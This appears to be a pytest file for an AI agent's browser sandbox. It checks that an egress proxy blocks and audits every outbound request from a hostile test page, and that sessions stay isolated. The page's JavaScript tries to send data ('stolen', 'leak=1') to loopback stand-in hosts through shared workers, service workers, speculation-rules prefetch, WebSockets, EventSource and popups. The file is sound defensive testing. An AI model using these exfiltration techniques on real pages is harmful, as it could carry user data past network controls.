"""Each session's browser context goes out only through browser-shell's egress proxy, and keeps its
own cookies, storage, service workers and tabs. A hostile page on the allowed site (127.0.0.1:A)
tries every kind of request the gate's per-request pause never saw: a shared worker's POST,
speculation-rules prefetch and prerender, a WebSocket, an EventSource, a service worker's fetch,
preconnects and a `target=_blank` popup, at the loopback stand-ins for "elsewhere" (127.0.0.2:P and
the forbidden port 127.0.0.1:Q). The forbidden servers receive nothing, and each attempt that reached
the proxy is an audited refusal naming its session. Real Chromium and agent-browser, loopback only."""

from __future__ import annotations

import json
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

import harness

pytestmark = pytest.mark.chromium


class Watched:
    """A listener that only counts and drops what connects: a forbidden server."""

    def __init__(self, host: str, port: int = 0) -> None:
        self.sock = socket.socket()
        self.sock.bind((host, port))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stopped = False
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while not self.stopped:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.stopped = True
        self.sock.close()


def hostile_site(targets: list[str]) -> ThreadingHTTPServer:
    """The allowed site: a page that reaches for `targets` (host:port) every way it can."""
    listed = json.dumps(targets)
    rules = json.dumps(
        {
            "prefetch": [{"source": "list", "urls": [f"http://{t}/prefetch?leak=1" for t in targets]}],
            "prerender": [{"source": "list", "urls": [f"http://{t}/prerender?leak=1" for t in targets]}],
        }
    )
    page = (
        "<!doctype html><meta charset=utf-8><title>hostile</title>"
        + "".join(f'<link rel=preconnect href="http://{t}/">' for t in targets)
        + f'<script type="speculationrules">{rules}</script>'
        + f'<a id=popup href="http://{targets[0]}/popup" target=_blank>popup</a>'
        + "<script>"
        + f"const targets = {listed};"
        + "for (const t of targets) {"
        + "  try { new WebSocket(`ws://${t}/websocket`); } catch (e) {}"
        + "  try { new EventSource(`http://${t}/eventsource`); } catch (e) {}"
        + "  const l = document.createElement('link'); l.rel = 'preconnect'; l.href = `http://${t}/script`;"
        + "  document.head.appendChild(l);"
        + "}"
        + "new SharedWorker('/shared.js').port.start();"
        + "navigator.serviceWorker.register('/sw.js').catch(() => {});"
        + "</script>"
    )
    shared = f"for (const t of {listed}) fetch(`http://${{t}}/shared-worker`, {{method: 'POST', body: 'stolen', mode: 'no-cors'}}).catch(() => {{}});"
    service = (
        "self.addEventListener('install', (e) => e.waitUntil(Promise.all("
        + f"{listed}.map((t) => fetch(`http://${{t}}/service-worker`, {{mode: 'no-cors'}}).catch(() => null)))));"
    )
    bodies = {"/": ("text/html", page), "/shared.js": ("text/javascript", shared), "/sw.js": ("text/javascript", service)}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, fmt: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            kind, body = bodies.get(self.path, ("text/plain", "not here"))
            data = body.encode()
            self.send_response(200 if self.path in bodies else 404)
            self.send_header("Content-Type", f"{kind}; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            # A preconnect the page cannot be seen asking for: in the response's headers.
            self.send_header("Link", ", ".join(f"<http://{t}/>; rel=preconnect" for t in targets))
            self.end_headers()
            self.wfile.write(data)

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd


def denied_reasons(srv: Any, session: str) -> list[str]:
    records = [json.loads(line) for line in srv.cfg.audit_log.read_text().splitlines()]
    return [
        r["reason"]
        for r in records
        if r.get("phase") == "denied" and r.get("session_id") == session and r.get("rule") == "request.blocked"
    ]


def test_a_hostile_page_reaches_no_forbidden_address_by_any_kind_of_request(start_server) -> None:
    elsewhere = Watched("127.0.0.2")
    other_port = Watched("127.0.0.1")
    targets = [f"127.0.0.2:{elsewhere.port}", f"127.0.0.1:{other_port.port}"]
    site = hostile_site(targets)
    allowed = site.server_address[1]
    srv = start_server(policy_json={"open": {"allow_private_cidrs": [f"127.0.0.1:{allowed}"]}})
    try:
        srv.ok("hostile", ["open", f"http://127.0.0.1:{allowed}/"])
        srv.call("hostile", ["wait", "1500"])
        srv.call("hostile", ["click", "#popup"])
        srv.call("hostile", ["wait", "1500"])
        time.sleep(1)
        assert (elsewhere.accepted, other_port.accepted) == (0, 0), "a forbidden server was reached"
        # Each kind that reached the proxy is a refusal naming the session, host and port.
        wanted = [
            f"connection to {t}" for t in targets  # the WebSockets (CONNECT)
        ] + [f"http://{t}/{path}" for t in targets for path in ("eventsource", "shared-worker", "service-worker")]
        wanted.append(f"http://{targets[0]}/popup")
        deadline = time.monotonic() + 10
        while True:
            reasons = denied_reasons(srv, "hostile")
            missing = [w for w in wanted if not any(w in r for r in reasons)]
            if not missing or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert not missing, (missing, reasons)
        assert all("leak=1" not in r and "stolen" not in r for r in reasons), reasons
        # The page itself was served through the proxy too: the session still works.
        assert srv.ok("hostile", ["get", "url"])["url"] == f"http://127.0.0.1:{allowed}/"
    finally:
        site.shutdown()
        elsewhere.close()
        other_port.close()


def isolation_site() -> ThreadingHTTPServer:
    """/set?v stores v in a cookie and localStorage and registers a service worker; /show tells."""
    show = (
        "<!doctype html><title>showing</title><script>"
        "navigator.serviceWorker.getRegistrations().then((r) => {"
        "document.title = `cookie=${document.cookie};ls=${localStorage.getItem('k')};sw=${r.length}`; });"
        "</script>"
    )

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, fmt: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            if self.path.startswith("/set?"):
                value = self.path.split("?", 1)[1]
                body = (
                    "<!doctype html><title>setting</title><script>"
                    f"document.cookie = 'k={value}; path=/'; localStorage.setItem('k', '{value}');"
                    # Registered is enough: getRegistrations() lists it, activated or not.
                    "navigator.serviceWorker.register('/noop.js')"
                    ".then(() => { document.title = 'registered'; }, (e) => { document.title = `failed ${e}`; });</script>"
                )
                kind = "text/html"
            elif self.path == "/noop.js":
                body, kind = "self.addEventListener('fetch', () => {});", "text/javascript"
            else:
                body, kind = show, "text/html"
            data = body.encode()
            self.send_response(200)
            self.send_header("Content-Type", f"{kind}; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd


def title_once(srv: Any, session: str, prefix: str) -> str:
    """The page's title once it starts with `prefix` (a final state, never a pending one), or after 30 s."""
    deadline = time.monotonic() + 30
    while True:
        title = srv.ok(session, ["get", "title"])["title"]
        if title.startswith(prefix) or time.monotonic() > deadline:
            return title
        time.sleep(0.2)


def browser_contexts(chromium: Any) -> list[str]:
    """The browser contexts Chromium has, asked on its own DevTools port (not through the gate)."""
    (answer,) = harness.cdp_browser_call(chromium.port, [("Target.getBrowserContexts", {})])
    return answer["result"]["browserContextIds"]


def test_sessions_share_no_cookie_storage_or_service_worker_and_close_ends_the_context(
    start_server, chromium
) -> None:
    site = isolation_site()
    origin = f"http://127.0.0.1:{site.server_address[1]}"
    srv = start_server()
    try:
        srv.ok("iso-a", ["open", f"{origin}/set?from-a"])
        assert title_once(srv, "iso-a", "registered") == "registered"
        srv.ok("iso-a", ["open", f"{origin}/show"])
        assert title_once(srv, "iso-a", "cookie=") == "cookie=k=from-a;ls=from-a;sw=1"
        srv.ok("iso-b", ["open", f"{origin}/show"])
        assert title_once(srv, "iso-b", "cookie=") == "cookie=;ls=null;sw=0"
        before = browser_contexts(chromium)
        srv.ok("iso-a", ["close"])
        deadline = time.monotonic() + 10
        while len(browser_contexts(chromium)) >= len(before) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert len(browser_contexts(chromium)) == len(before) - 1, (before, browser_contexts(chromium))
        # Session b is untouched; a new session of a's name starts clean.
        assert title_once(srv, "iso-b", "cookie=") == "cookie=;ls=null;sw=0"
        srv.ok("iso-a", ["open", f"{origin}/show"])
        assert title_once(srv, "iso-a", "cookie=") == "cookie=;ls=null;sw=0"
    finally:
        site.shutdown()


def test_a_refusal_during_a_call_names_the_call_and_its_trace(start_server) -> None:
    """A page that reaches for a forbidden address while `open` loads it: the egress's refusal record
    carries the `open` call's trace and span and names its call_id, so a reviewer and a dashboard find
    it beside the call that caused it."""
    elsewhere = Watched("127.0.0.2")
    page = f'<!doctype html><title>reach</title><img src="http://127.0.0.2:{elsewhere.port}/img">'

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, fmt: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            data = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    site = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    allowed = site.server_address[1]
    srv = start_server(policy_json={"open": {"allow_private_cidrs": [f"127.0.0.1:{allowed}"]}})
    trace_id, parent_span = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"

    async def open_traced(session: Any) -> Any:
        return await session.call_tool(
            "browser-shell",
            {"session_id": "traced", "argv": ["open", f"http://127.0.0.1:{allowed}/"]},
            meta={"traceparent": f"00-{trace_id}-{parent_span}-01"},
        )

    try:
        result = srv.run(open_traced)
        assert result.structured_content["exit_code"] == 0, result.structured_content
        # A refused connection is recorded once the page has had its moment to say it made it.
        deadline = time.monotonic() + 10
        while True:
            records = [json.loads(line) for line in srv.cfg.audit_log.read_text().splitlines()]
            refusals = [
                r
                for r in records
                if r.get("rule") == "request.blocked" and f"127.0.0.2:{elsewhere.port}" in (r.get("reason") or "")
            ]
            if refusals or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        intent = next(r for r in records if r.get("phase") == "intent" and r.get("session_id") == "traced")
        assert intent.get("trace_id") == trace_id, intent
        assert refusals, [r for r in records if r.get("phase") == "denied"]
        for refusal in refusals:
            assert refusal["session_id"] == "traced", refusal
            assert refusal.get("trace_id") == trace_id, refusal
            assert refusal.get("span_id") == intent.get("span_id"), (refusal, intent)
            assert (refusal.get("detail") or {}).get("in_call") == intent["call_id"], refusal
            assert refusal["call_id"] != intent["call_id"], "the refusal is a record of its own"
        assert elsewhere.accepted == 0
    finally:
        site.shutdown()
        elsewhere.close()
